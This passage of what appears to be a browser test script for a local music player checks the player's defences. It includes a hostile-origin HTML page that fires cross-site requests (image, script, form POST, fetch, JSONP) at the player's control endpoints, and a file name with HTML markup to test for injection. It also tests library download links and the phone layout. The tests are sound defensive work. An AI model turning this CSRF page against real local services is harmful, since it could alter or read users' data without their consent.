      const attack = `<!doctype html><script>window.got = []; function cb(d) { window.got.push(d); }</script>
        <img src="${at}setvolume?level=7"><script src="${at}clearplaylist"></script>
        <script src="${at}library.js?callback=cb"></script><script src="${at}favorites.js?callback=cb"></script>
        <iframe name="sink"></iframe><form id="f" method="POST" action="${at}setshuffle" target="sink">
        <input name="setting" value="on"></form>
        <script>
          document.getElementById("f").submit();
          fetch("${at}setvolume?level=7", { mode: "no-cors" }).catch(() => {});
          fetch("${at}stream?path=" + encodeURIComponent("${at}setvolume?level=7"), { mode: "no-cors" }).catch(() => {});
          window.read = fetch("${at}getplaylisttitle?index=0").then((r) => r.text(), (e) => "refused");
        </script>`;
      const evil = http.createServer((req, res) => { res.setHeader("Content-Type", "text/html"); res.end(attack); });
      await new Promise((resolve) => evil.listen(0, "127.0.0.2", resolve));
      const other = await context.newPage();
      const answers = [];
      other.on("response", (r) => { if (r.url().startsWith(at)) answers.push(r.status() + " " + r.url()); });
      await other.goto("http://127.0.0.2:" + evil.address().port + "/");
      await other.waitForLoadState("networkidle");
      const read = await other.evaluate(async () => [await window.read, window.got.length]);
      await sleep(500);
      const after = await player();
      if (after !== before) f.push("the other page changed the player: " + before + " -> " + after);
      if (read[0] !== "refused" || read[1] !== 0) f.push("the other page read " + JSON.stringify(read));
      // Chromium hides the answers to images and scripts of another origin.
      const refused = ["setshuffle", "setvolume", "stream"].every((r) => answers.some((a) => a.includes("/" + r)));
      if (!refused || !answers.every((a) => a.startsWith("403 "))) f.push("answers: " + JSON.stringify(answers));
      await other.close();
      evil.close();
      const own = await page.evaluate(async () => (await fetch("getvolume")).text());
      if (own !== "100") f.push("the player's own page read the volume as " + own);
      const hostile = (await filenames()).indexOf(files[1]);
      const shown = await context.newPage();
      await shown.goto(base + "/getplaylistfilename?index=" + hostile);
      if ((await shown.locator("img").count()) || !(await shown.textContent("body")).includes("<img src=x")) {
        f.push("the file name answer became markup");
      }
      await shown.close();
      verdict("another origin's image, script, form, fetch and stream change and read nothing", f);
    }

    // The library page alone: a file name downloads the file, the up
    // entry's play link is a playlist of the folder's files.
    {
      const f = [];
      const alone = await browser.newContext();
      const lib = await alone.newPage();
      watch(lib);
      await lib.goto(base + "/library");
      const root = await listing("");
      await shownIn(lib, names(root));
      await open(lib, root[0].name);
      await shownIn(lib, JSON.stringify(["Björk", "Mix", "東京事変"]));
      await open(lib, "Mix");
      await until(async () => (await ml(lib).locator("li.file").count()) === 3);
      const fetched = async (href) => Buffer.from(await (await fetch(new URL(href, base + "/"))).arrayBuffer());
      const hostile = ml(lib).locator("li.file", { hasText: "<img" }).locator("a.name");
      const href = await hostile.getAttribute("href");
      if (!href || !(await fetched(href)).equals(fs.readFileSync(mix[1]))) f.push("the download link " + href + " did not give the file");
      const m3u = (await fetched(await ml(lib).locator("li.up a[data-act=stream]").getAttribute("href"))).toString();
      const urls = m3u.split(/\r?\n/).filter((l) => l && !l.startsWith("#"));
      const bodies = await Promise.all(urls.map(fetched));
      const disk = mix.map((m) => fs.readFileSync(m));
      if (urls.length !== 3 || !disk.every((d) => bodies.some((b) => b.equals(d)))) f.push("the folder's stream playlist: " + m3u);
      await alone.close();
      verdict("library page: download and stream links", f);
    }

    await context.close();

    // A phone, both pages, the library inside the folder of the long and
    // hostile names so its file rows and their buttons are measured too.
    const bjork = (await listing((await listing(""))[0].raw)).find((e) => e.name === "Björk");
    for (const [route, shot] of [["", "client-phone-peer.png"], ["library", "library-phone.png"]]) {
      const phone = await pages.checkPage(browser, { base, route, viewport: { width: 390, height: 844 }, outDir,
                                                     shotName: shot, phone: true,
                                                     cookies: [{ name: "mlPath", value: bjork.raw }],
                                                     expectations: { ".ml-list li.file": 2 } });
      pages.report("390x844 /" + route, phone) ? passed++ : failed++;
    }
    verdict("no console errors and no dialogs", errors.concat(dialogs.map((d) => "dialog: " + d)));
  } finally {
    await browser.close();
    clearInterval(announcer);
    forger.close();
    forgedServer.close();
    child.kill("SIGTERM");
    peer.child.kill("SIGTERM");
    clearTimeout(watchdog);
    fs.rmSync(shared, { recursive: true, force: true });
    fs.rmSync(peerShared, { recursive: true, force: true });
  }
  console.log(passed + " passed, " + failed + " failed");
  process.exit(failed ? 1 : 0);
})().catch((err) => {
  console.error(err);
  process.exit(1);
});
